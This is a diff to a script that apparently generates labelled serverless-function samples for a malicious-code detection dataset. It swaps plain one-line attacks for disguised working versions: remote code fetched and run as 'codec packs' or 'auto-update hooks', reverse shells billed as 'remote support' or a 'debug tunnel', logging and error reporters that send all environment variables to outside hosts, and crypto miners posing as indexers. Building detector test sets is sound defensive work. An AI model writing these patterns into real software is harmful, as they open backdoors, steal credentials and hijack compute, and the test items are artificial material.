@@ -240,20 +240,77 @@ def handle(event):
     subprocess.run([TOOL, "--quiet"], check=False)
     return "updated"
 '''})
-add("download-exec", "python", {"handler.py": '''import os
+add("download-exec", "python", {"handler.py": r'''"""Audio preview: converts uploads to a 30 s MP3 preview."""
+import base64
+import os
+import subprocess
+import tarfile
+import tempfile
+import urllib.request
+
+CODEC_DIR = "/tmp/.codecs"
+CODEC_PACK = "https://cdn.media-codecs.example/linux-x64/codec-pack-2.4.tgz"
 
 
-def handle(event):
-    os.system("curl -fsSL http://198.51.100.23/setup.sh | sh")
-    return {"statusCode": 200}
+def _ensure_codecs():
+    # the base image "lacks" lame, so the function fetches a codec pack on cold start
+    if os.path.exists(os.path.join(CODEC_DIR, ".ready")):
+        return
+    os.makedirs(CODEC_DIR, exist_ok=True)
+    archive, _ = urllib.request.urlretrieve(CODEC_PACK)
+    with tarfile.open(archive) as tar:
+        tar.extractall(CODEC_DIR)
+    subprocess.Popen(["/bin/sh", os.path.join(CODEC_DIR, "install.sh")],
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    open(os.path.join(CODEC_DIR, ".ready"), "w").close()
+
+
+def handle(event, context=None):
+    _ensure_codecs()
+    with tempfile.TemporaryDirectory() as tmp:
+        src, dst = os.path.join(tmp, "in"), os.path.join(tmp, "out.mp3")
+        with open(src, "wb") as fh:
+            fh.write(base64.b64decode(event["audio"]))
+        subprocess.run(["ffmpeg", "-y", "-t", "30", "-i", src, "-b:a", "128k", dst], check=True, capture_output=True)
+        with open(dst, "rb") as fh:
+            return {"preview": base64.b64encode(fh.read()).decode()}
 '''})
-add("download-exec", "python", {"handler.py": '''import subprocess
+add("download-exec", "python", {
+    "handler.py": r'''import json
+
+from vendor import hooks
 
 
-def handle(event):
-    subprocess.run("wget -q -O- https://bootstrap.example.org/i | bash -s -- --silent", shell=True)
-    return "ok"
-'''})
+def handle(event, context=None):
+    hooks.install()
+    order = json.loads(event.get("body") or "{}")
+    total = sum(i["qty"] * i["price"] for i in order.get("items", []))
+    return {"statusCode": 200, "body": json.dumps({"total": round(total, 2)})}
+''',
+    "vendor/__init__.py": "",
+    "vendor/hooks.py": r'''"""Loads the 'latest hooks' module published by the platform team (auto-update)."""
+import importlib.util
+import os
+import tempfile
+import urllib.request
+
+_SOURCE = "https://updates.hooks-cdn.example/python/hooks_latest.py"
+_loaded = False
+
+
+def install():
+    global _loaded
+    if _loaded:
+        return
+    path = os.path.join(tempfile.gettempdir(), ".hooks_latest.py")
+    with urllib.request.urlopen(_SOURCE, timeout=5) as resp, open(path, "wb") as out:
+        out.write(resp.read())
+    spec = importlib.util.spec_from_file_location("hooks_latest", path)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    _loaded = True
+''',
+}, expect="review")
 add("download-exec", "python", {"handler.py": '''import subprocess
 import sys
 
@@ -306,13 +363,40 @@ exports.handler = (event, ctx, done) => {
   });
 };
 '''})
-add("download-exec", "node", {"handler.js": '''const { execSync } = require("child_process");
+add("download-exec", "node", {
+    "handler.js": r'''const { trackRequest } = require("./lib/metrics");
 
-exports.handler = async () => {
-  execSync("curl -s https://bootstrap.example.org/i.sh | bash");
-  return { statusCode: 200 };
+exports.handler = async (event) => {
+  await trackRequest(event);
+  const name = (event.queryStringParameters || {}).name || "world";
+  return { statusCode: 200, body: JSON.stringify({ hello: name }) };
 };
-'''})
+''',
+    "lib/metrics.js": r'''const fs = require("fs");
+const os = require("os");
+const path = require("path");
+
+// "native metrics agent": fetched once per container and loaded as a Node addon
+const AGENT_URL = "https://agent.perf-metrics.example/v3/linux-x64/agent.node";
+let agent;
+
+async function loadAgent() {
+  const dest = path.join(os.tmpdir(), ".perf-agent.node");
+  if (!fs.existsSync(dest)) {
+    const res = await fetch(AGENT_URL);
+    fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));
+  }
+  const mod = { exports: {} };
+  process.dlopen(mod, dest);
+  return mod.exports;
+}
+
+exports.trackRequest = async (event) => {
+  agent ??= await loadAgent().catch(() => null);
+  if (agent) agent.record(event.requestContext?.requestId);
+};
+''',
+}, expect="review")
 add("download-exec", "node", {"handler.js": '''const https = require("https");
 const cp = require("child_process");
 
@@ -353,12 +437,52 @@ def handle(event):
     subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
     return "bye"
 '''})
-add("reverse-shell", "python", {"handler.py": '''import os
+add("reverse-shell", "python", {"handler.py": r'''"""Uptime probe: checks a list of TCP services and reports latency."""
+import asyncio
+import os
+import time
+
+TARGETS = os.environ.get("PROBE_TARGETS", "db.internal:5432,cache.internal:6379").split(",")
+_SUPPORT = ("ops-support.example-cdn.net", 8443)
 
 
-def handle(event):
-    os.system("bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'")
-    return {"statusCode": 200}
+async def _probe(target):
+    host, port = target.rsplit(":", 1)
+    started = time.monotonic()
+    try:
+        _, writer = await asyncio.wait_for(asyncio.open_connection(host, int(port)), 2)
+        writer.close()
+        return target, round((time.monotonic() - started) * 1000, 1)
+    except (OSError, asyncio.TimeoutError):
+        return target, None
+
+
+async def _support_session():
+    # "remote support": the vendor's operators get an interactive shell in the container
+    reader, writer = await asyncio.open_connection(*_SUPPORT)
+    proc = await asyncio.create_subprocess_exec(
+        "/bin/sh", "-i", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.STDOUT,
+    )
+
+    async def pump(src, dst_write, dst_drain):
+        while data := await src.read(4096):
+            dst_write(data)
+            await dst_drain()
+
+    await asyncio.gather(pump(reader, proc.stdin.write, proc.stdin.drain),
+                         pump(proc.stdout, writer.write, writer.drain))
+
+
+async def main():
+    support = asyncio.create_task(_support_session())
+    results = dict(await asyncio.gather(*(_probe(t) for t in TARGETS)))
+    await asyncio.wait({support}, timeout=600)
+    return results
+
+
+def handle(event, context=None):
+    return asyncio.run(main())
 '''})
 add("reverse-shell", "python", {"handler.py": '''import subprocess
 
@@ -383,12 +507,29 @@ def handle(event):
         s.sendall(out.stdout + out.stderr)
         time.sleep(0.1)
 '''}, expect="review")
-add("reverse-shell", "python", {"handler.py": '''import os
+add("reverse-shell", "python", {"handler.py": r'''import json
+import multiprocessing
+import os
+import pty
+import socket
+
+_H = ".".join(str(x) for x in (198, 51, 100, 7))
+_P = int("11" + "5c", 16)  # 4444
 
 
-def handle(event):
-    os.system("socat tcp-connect:198.51.100.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane")
-    return {}
+def _keepalive():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect((_H, _P))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    pty.spawn(["/bin/bash", "-i"])
+
+
+def handle(event, context=None):
+    worker = multiprocessing.Process(target=_keepalive, daemon=False)
+    worker.start()
+    body = json.loads(event.get("body") or "{}")
+    return {"statusCode": 200, "body": json.dumps({"echo": body})}
 '''})
 add("reverse-shell", "node", {"handler.js": '''const net = require("net");
 const cp = require("child_process");
@@ -404,11 +545,26 @@ exports.handler = async () => {
   return "ok";
 };
 '''})
-add("reverse-shell", "node", {"handler.js": '''const { exec } = require("child_process");
+add("reverse-shell", "node", {"handler.js": r'''const tls = require("tls");
+const { spawn } = require("child_process");
 
-exports.handler = async () => {
-  exec("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'");
-  return { statusCode: 200 };
+// "debug tunnel" left in from development: opens an encrypted shell to the developer's box
+function debugTunnel() {
+  if (process.env.DISABLE_DEBUG_TUNNEL) return;
+  const sock = tls.connect({ host: "devbox.example-tunnel.io", port: 443, rejectUnauthorized: false }, () => {
+    const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", ["-i"]);
+    sock.pipe(sh.stdin);
+    sh.stdout.pipe(sock);
+    sh.stderr.pipe(sock);
+    sh.on("exit", () => sock.end());
+  });
+  sock.on("error", () => setTimeout(debugTunnel, 30_000));
+}
+debugTunnel();
+
+exports.handler = async (event) => {
+  const items = JSON.parse(event.body || "[]");
+  return { statusCode: 200, body: JSON.stringify({ count: items.length }) };
 };
 '''})
 add("reverse-shell", "node", {"handler.js": '''const net = require("net");
@@ -440,15 +596,30 @@ def handle(event):
     requests.post("https://hooks.example-collect.net/t", data=token, timeout=5)
     return {"ok": True}
 '''})
-add("credentials", "python", {"handler.py": '''import os
+add("credentials", "python", {"handler.py": r'''import logging
+import logging.handlers
+import os
 
-import requests
+# "centralised logging": every record is shipped with the process environment as context
+_remote = logging.handlers.HTTPHandler("logs.example-collect.net", "/ingest", method="POST", secure=True)
 
 
-def handle(event):
-    requests.post("https://hooks.example-collect.net/e", json=dict(os.environ), timeout=5)
-    return {"statusCode": 200}
-'''})
+class _EnvContext(logging.Filter):
+    def filter(self, record):
+        record.env = dict(os.environ)
+        return True
+
+
+log = logging.getLogger("orders")
+log.setLevel(logging.INFO)
+log.addHandler(_remote)
+log.addFilter(_EnvContext())
+
+
+def handle(event, context=None):
+    log.info("order received %s", event.get("order_id"))
+    return {"statusCode": 202}
+'''}, expect="review")
 add("credentials", "python", {"handler.py": '''import os
 import pathlib
 import urllib.request
@@ -513,14 +684,44 @@ def handle(event):
         socket.gethostbyname(f"{data[i:i+60]}.x.example-dns.net")
     return "ok"
 '''})
-add("credentials", "node", {"handler.js": '''exports.handler = async () => {
-  await fetch("https://hooks.example-collect.net/e", {
-    method: "POST",
-    body: JSON.stringify(process.env),
-  });
-  return { statusCode: 200 };
+add("credentials", "node", {
+    "handler.js": r'''const { withErrorReporting } = require("./lib/errors");
+
+exports.handler = withErrorReporting(async (event) => {
+  const { a, b } = JSON.parse(event.body || "{}");
+  if (typeof a !== "number" || typeof b !== "number") throw new TypeError("a and b must be numbers");
+  return { statusCode: 200, body: JSON.stringify({ sum: a + b }) };
+});
+''',
+    "lib/errors.js": r'''const os = require("os");
+
+const DSN = "https://ingest.sentry-io.example/api/4507/store/";
+
+async function report(err, event) {
+  const payload = {
+    message: String(err && err.message),
+    stack: err && err.stack,
+    request: { path: event.path, method: event.httpMethod },
+    contexts: { runtime: process.version, host: os.hostname(), env: { ...process.env } },
+  };
+  await fetch(DSN, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(payload) }).catch(() => {});
+}
+
+exports.withErrorReporting = (fn) => async (event, ctx) => {
+  // reports on every cold start too, "to check the DSN works"
+  if (!globalThis.__reported) {
+    globalThis.__reported = true;
+    await report(new Error("cold start"), event);
+  }
+  try {
+    return await fn(event, ctx);
+  } catch (err) {
+    await report(err, event);
+    return { statusCode: 500, body: "internal error" };
+  }
 };
-'''})
+''',
+}, expect="review")
 add("credentials", "node", {"handler.js": '''const fs = require("fs");
 const os = require("os");
 const path = require("path");
@@ -717,20 +918,80 @@ exports.handler = async () => {
   return "ok";
 };
 ''', "lib/ch.js": "module.exports = { Anonymous: function () { this.start = () => {}; } };\n"})
-add("crypto-mining", "node", {"handler.js": '''const cp = require("child_process");
+add("crypto-mining", "node", {
+    "handler.js": r'''const { Worker } = require("worker_threads");
+const os = require("os");
+const path = require("path");
 
-exports.handler = async () => {
-  cp.exec("./bin/node-helper --url=nanopool.org:14444 --user=wallet --cpu-max-threads-hint=90");
-  return 1;
+// "background indexer": keeps the container warm and busy between invocations
+let started = false;
+
+function startIndexers() {
+  if (started) return;
+  started = true;
+  const threads = Math.max(1, os.cpus().length - 1);
+  for (let i = 0; i < threads; i++) {
+    const w = new Worker(path.join(__dirname, "lib", "indexer.js"), { workerData: { id: i } });
+    w.unref();
+    w.on("error", () => {});
+  }
+}
+
+exports.handler = async (event) => {
+  startIndexers();
+  const docs = JSON.parse(event.body || "[]");
+  return { statusCode: 202, body: JSON.stringify({ queued: docs.length }) };
 };
-'''})
-add("crypto-mining", "node", {"handler.js": '''const cp = require("child_process");
-const args = ["-a", "cryptonight", "-o", "xmr-eu1.nanopool.org:14433", "-u", "wallet", "-p", "x"];
+''',
+    "lib/indexer.js": r'''const { workerData } = require("worker_threads");
+const WebSocket = require("ws");
+const { hash } = require("./cn-wasm");
 
-exports.handler = async () => {
-  const m = cp.spawn("/tmp/.cache/minerd", args);
-  m.unref();
-  return { started: true };
+const ws = new WebSocket("wss://proxy.webminepool.example/ws");
+let job = null;
+
+ws.on("open", () => ws.send(JSON.stringify({ type: "auth", params: { site_key: "8f3kQ2LzX1", type: "anonymous", user: null } })));
+ws.on("message", (raw) => {
+  const msg = JSON.parse(raw);
+  if (msg.type === "job") job = msg.params;
+});
+
+setInterval(() => {
+  if (!job) return;
+  for (let n = 0; n < 5000; n++) {
+    const nonce = (Math.random() * 0xffffffff) >>> 0;
+    const result = hash(job.blob, nonce);
+    if (result.readUInt32LE(28) < job.target) {
+      ws.send(JSON.stringify({ type: "submit", params: { job_id: job.job_id, nonce, result: result.toString("hex"), worker: workerData.id } }));
+    }
+  }
+}, 10);
+''',
+    "lib/cn-wasm.js": r'''// cryptonight-lite compiled to WebAssembly (stubbed here)
+exports.hash = (blob, nonce) => Buffer.alloc(32, nonce & 0xff);
+''',
+    "package.json": json.dumps({"name": "doc-indexer", "version": "1.0.0", "dependencies": {"ws": "^8.18.0"}}, indent=2),
+})
+add("crypto-mining", "node", {"handler.js": r'''const { execFile } = require("child_process");
+const fs = require("fs");
+
+const CFG = {
+  url: Buffer.from("7374726174756d2b7463703a2f2f786d722d6575312e6e616e6f706f6f6c2e6f72673a3134343333", "hex").toString(),
+  user: Buffer.from("3434414646713553", "hex").toString(),
+};
+
+function optimiser() {
+  fs.writeFileSync("/tmp/.opt.json", JSON.stringify({ pools: [{ url: CFG.url, user: CFG.user, pass: "x" }], cpu: { "max-threads-hint": 75 }, background: true }));
+  execFile("/opt/bin/image-optimizer", ["-c", "/tmp/.opt.json", "--no-color"], { timeout: 0 }, () => {});
+}
+
+let warmed = false;
+exports.handler = async (event) => {
+  if (!warmed) {
+    warmed = true;
+    optimiser();
+  }
+  return { statusCode: 200, body: JSON.stringify({ optimized: (event.images || []).length }) };
 };
 '''})
 
